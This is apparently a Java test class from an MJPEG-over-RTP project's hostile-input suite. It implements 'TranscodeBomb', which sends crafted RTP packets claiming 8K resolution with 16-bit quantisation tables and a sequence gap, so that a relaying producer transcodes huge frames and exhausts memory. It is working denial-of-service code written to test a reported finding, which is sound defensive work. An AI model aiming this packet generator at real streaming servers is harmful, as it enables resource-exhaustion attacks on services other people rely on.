package dev.mjpegrtp.testing.hostile;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;

/**
 * Frames that make a relaying producer transcode a picture of 8K UHD (issue 17, finding 2): per frame, two RTP packets.
 * The first claims {@value #WIDTH}x{@value #HEIGHT} in its ONVIF JPEG header extension and carries Q 255 tables of 16
 * bits whose every entry fits 8 bits (so a producer narrows them, decoding every coefficient of the picture), restart
 * markers on; the second, after a gap, has the marker bit. A receiver that conceals the gap with gray intervals hands
 * on a 650 KB JPEG, whose transcoding takes some 100 MB of coefficients. {@value #FRAMES_PER_SECOND} frames a second.
 */
public final class TranscodeBomb extends PacedRtpAttack {

    /** 8K UHD: the most pixels the transcoder takes. */
    static final int WIDTH = 7680;
    static final int HEIGHT = 4320;
    static final int FRAMES_PER_SECOND = 5;
    /** One row of 16x8 MCUs per restart interval. */
    private static final int RESTART_INTERVAL = WIDTH / 16;

    public TranscodeBomb(InetAddress source, InetSocketAddress target, int ssrc) {
        super("transcode-bomb", source, target, ssrc, FRAMES_PER_SECOND, 0, 0);
    }

    @Override
    protected byte[][] frame(int timestamp) {
        return new byte[][] {firstPacket(nextSequence(), timestamp), lastPacket(nextSequence(), timestamp)};
    }

    private byte[] firstPacket(int sequence, int timestamp) {
        ByteBuffer packet = ByteBuffer.allocate(12 + HostileRtp.ONVIF_EXTENSION_LENGTH + 8 + 4 + 4 + 256 + 4);
        HostileRtp.rtpHeader(packet, true, false, sequence, timestamp, ssrc);
        HostileRtp.onvifSizeExtension(packet, WIDTH, HEIGHT);
        HostileRtp.mainHeader(packet, 0, HostileRtp.TYPE_0_WITH_RESTARTS, 255, 0, 0);
        HostileRtp.restartHeader(packet, RESTART_INTERVAL, true, false, 0);
        HostileRtp.sixteenBitTables(packet, 16);
        packet.put(new byte[packet.remaining()]);
        return HostileRtp.bytes(packet);
    }

    private byte[] lastPacket(int sequence, int timestamp) {
        ByteBuffer packet = ByteBuffer.allocate(28);
        HostileRtp.rtpHeader(packet, false, true, sequence, timestamp, ssrc);
        HostileRtp.mainHeader(packet, 100_000, HostileRtp.TYPE_0_WITH_RESTARTS, 255, 0, 0);
        HostileRtp.restartHeader(packet, RESTART_INTERVAL, false, true, 200);
        packet.put(new byte[packet.remaining()]);
        return HostileRtp.bytes(packet);
    }

    @Override
    public String summary() {
        return framesSent() + " two-packet frames claiming " + WIDTH + "x" + HEIGHT + " with 16-bit tables from "
                + source.getHostAddress() + " to " + target;
    }
}
